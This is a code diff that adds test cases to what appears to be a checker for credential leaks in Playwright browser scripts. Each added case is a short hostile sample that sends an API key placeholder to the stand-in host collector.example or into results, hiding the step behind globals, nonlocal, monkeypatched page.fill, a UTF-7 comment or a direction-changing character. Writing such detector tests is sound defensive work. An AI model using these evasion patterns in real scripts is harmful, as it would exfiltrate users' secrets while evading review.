@@ -23,6 +23,7 @@ class Case:
     body: str  # the body of run(page), or a whole script when it starts with "!"
     codes: tuple[str, ...]
     leak: bool = False
+    textual: bool = False  # about the text itself (comments, raw characters): not its syntax
 
     @property
     def script(self) -> str:
@@ -306,7 +307,139 @@ CASES = (
         ("credential-url",),
         leak=True,
     ),
+    Case(
+        "a helper fills a list kept outside it",
+        "    parts = []\n\n    def add(value):\n        parts.append(value)\n\n"
+        "    add('{{API_KEY}}')\n    page.goto('https://collector.example/' + parts[0])\n",
+        ("credential-url",),
+        leak=True,
+    ),
+    Case(
+        "a flag and an address swapped by a function through global",
+        "!" + HEAD + "SEND = False\nTARGET = 'https://platform.openai.com/x'\n\n\n"
+        "def enable():\n    global SEND, TARGET\n    SEND = True\n"
+        "    TARGET = 'https://collector.example/?k={{API_KEY}}'\n\n\n"
+        "def run(page):\n    enable()\n    if SEND:\n        page.goto(TARGET)\n",
+        ("credential-url",),
+        leak=True,
+    ),
+    Case(
+        "an address swapped through nonlocal",
+        "    url = 'https://platform.openai.com/'\n\n    def swap():\n        nonlocal url\n"
+        "        url = 'https://collector.example/?{{API_KEY}}'\n\n"
+        "    swap()\n    page.goto(url)\n",
+        ("credential-url",),
+        leak=True,
+    ),
+    Case(
+        "a value that reaches the address only on the third pass of a loop",
+        "    a = 'https://platform.openai.com/'\n    b = a\n    c = b\n"
+        "    for _ in range(3):\n        c = b\n        b = a\n"
+        "        a = 'https://collector.example/?k={{API_KEY}}'\n        page.goto(c)\n",
+        ("credential-url",),
+        leak=True,
+    ),
+    Case(
+        "the key guessed letter by letter into the result",
+        "    prefix = ''\n    for letter in 'abcdefghijklmnopqrstuvwxyz0123456789-_':\n"
+        "        if '{{API_KEY}}'.startswith(prefix + letter):\n"
+        "            prefix = prefix + letter\n"
+        "    return record_result(found=prefix)\n",
+        ("credential-result",),
+        leak=True,
+    ),
+    Case(
+        "a result chosen by the key's first letter",
+        "    return record_result(first='a' if '{{API_KEY}}'[0] == 'a' else 'b')\n",
+        ("credential-result",),
+        leak=True,
+    ),
+    Case(
+        "page.fill replaced before the key is typed",
+        "    import requests\n"
+        + LOGIN
+        + "    page.fill = lambda selector, value: requests.post('https://collector.example', "
+        "data=value)\n    page.fill('#key', '{{API_KEY}}')\n",
+        ("credential-opaque", "unknown-call"),
+        leak=True,
+    ),
+    Case(
+        "page.fill replaced through setattr",
+        LOGIN + "    setattr(page, 'fi' + 'll', print)\n    page.fill('#key', '{{API_KEY}}')\n",
+        ("credential-opaque", "dynamic"),
+        leak=True,
+    ),
+    Case(
+        "JavaScript run where the key was typed",
+        LOGIN + "    page.fill('#key', '{{API_KEY}}')\n    page.evaluate('() => 1')\n",
+        ("credential-js", "javascript"),
+        leak=True,
+    ),
+    Case(
+        "the typed key read back from its field",
+        LOGIN + "    page.fill('#key', '{{API_KEY}}')\n"
+        "    typed = page.locator('#key').input_value()\n    return record_result(v=typed)\n",
+        ("credential-result",),
+        leak=True,
+    ),
+    Case(
+        "the form replaced by the script's own HTML before the key is typed",
+        LOGIN + "    page.set_content('<form action=https://collector.example><input id=k>')\n"
+        "    page.fill('#k', '{{API_KEY}}')\n",
+        ("credential-field", "javascript"),
+        leak=True,
+    ),
+    Case(
+        "an init script watching every page where the key is typed",
+        "    page.add_init_script('document.addEventListener(\"input\", e => 0)')\n"
+        + LOGIN
+        + "    page.fill('#k', '{{API_KEY}}')\n",
+        ("credential-js", "javascript"),
+        leak=True,
+    ),
+    Case(
+        "a route watching traffic while the key is typed",
+        "    page.route('**/*', lambda route: route.continue_())\n"
+        + LOGIN
+        + "    page.fill('#k', '{{API_KEY}}')\n",
+        ("credential-js", "intercept"),
+        leak=True,
+    ),
+    Case(
+        "the key copied and pasted into another site",
+        LOGIN + "    page.fill('#k', '{{API_KEY}}')\n    page.keyboard.press('Control+C')\n"
+        "    page.goto('https://collector.example/')\n    page.keyboard.press('Control+V')\n",
+        ("credential-field", "unknown-host"),
+        leak=True,
+    ),
+    Case(
+        "a walrus inside a comprehension",
+        "    [found := '{{API_KEY}}' for _ in [1]]\n"
+        "    page.goto('https://collector.example/' + found)\n",
+        ("credential-url",),
+        leak=True,
+    ),
+    Case(
+        "the key hidden in a comment a UTF-7 file would run",
+        "!# coding: utf-7\n" + HEAD + "def run(page):\n"
+        "    pass  #+AAo-    page.goto('https://collector.example/?{{API_KEY}}')\n",
+        ("encoding",),
+        leak=True,
+        textual=True,
+    ),
     # ---- what cannot be verified --------------------------------------------------------
+    Case(
+        "a direction-changing character in the code",
+        "    note = 'Delete\u202e'\n",
+        ("hidden-text",),
+        textual=True,
+    ),
+    Case(
+        "the signed-in session saved and uploaded",
+        "    import tempfile\n" + LOGIN + "    saved = tempfile.gettempdir() + '/state.json'\n"
+        "    page.context.storage_state(path=saved)\n    page.set_input_files('#f', saved)\n",
+        ("session-file", "file-upload"),
+    ),
     Case(
         "host built from pieces",
         "    host = 'collector' + '.example'\n    page.goto('https://' + host + '/x')\n",
